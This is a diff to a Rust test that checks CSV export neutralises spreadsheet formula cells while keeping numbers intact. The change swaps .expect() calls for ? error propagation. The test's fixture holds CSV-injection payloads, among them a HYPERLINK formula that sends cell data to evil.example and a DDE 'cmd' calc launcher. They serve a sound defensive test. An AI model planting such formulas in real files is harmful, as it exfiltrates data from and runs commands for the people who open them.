@@ -470,8 +470,9 @@ fn counts_are_grouped_in_thousands() {
 }
 
 #[test]
-fn csv_cells_a_spreadsheet_would_run_are_neutralised_and_numbers_are_not() {
-    let dir = tempfile::tempdir().expect("tempdir");
+fn csv_cells_a_spreadsheet_would_run_are_neutralised_and_numbers_are_not(
+) -> Result<(), Box<dyn std::error::Error>> {
+    let dir = tempfile::tempdir()?;
     let hostile = [
         "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"x\")",
         "+cmd|' /C calc'!A0",
@@ -488,23 +489,18 @@ fn csv_cells_a_spreadsheet_would_run_are_neutralised_and_numbers_are_not() {
             "service" => hostile,
             "change" => [-5i64, 1, 2, 3, 4, 5, 6, 7],
             "change_pct" => [-1.5f64, 0.0, 0.0, 0.0, 0.0, 0.0, 0.0, 0.0],
-        )
-        .expect("frame"),
+        )?,
         formats: BTreeMap::new(),
         ..shift_table()
     };
-    let path = files::write_csv(dir.path(), &table).expect("csv");
+    let path = files::write_csv(dir.path(), &table)?;
     let back = CsvReadOptions::default()
         .with_has_header(true)
-        .try_into_reader_with_file_path(Some(path))
-        .expect("reader")
-        .finish()
-        .expect("read");
+        .try_into_reader_with_file_path(Some(path))?
+        .finish()?;
     let services: Vec<String> = back
-        .column("service")
-        .expect("service")
-        .str()
-        .expect("str")
+        .column("service")?
+        .str()?
         .iter()
         .map(|v| v.unwrap_or_default().to_string())
         .collect();
@@ -517,20 +513,7 @@ fn csv_cells_a_spreadsheet_would_run_are_neutralised_and_numbers_are_not() {
         }
     }
     // Numbers stay numbers, minus signs included; Parquet keeps the text as it is.
-    assert_eq!(
-        back.column("change")
-            .expect("change")
-            .i64()
-            .expect("i64")
-            .get(0),
-        Some(-5)
-    );
-    assert_eq!(
-        back.column("change_pct")
-            .expect("pct")
-            .f64()
-            .expect("f64")
-            .get(0),
-        Some(-1.5)
-    );
+    assert_eq!(back.column("change")?.i64()?.get(0), Some(-5));
+    assert_eq!(back.column("change_pct")?.f64()?.get(0), Some(-1.5));
+    Ok(())
 }
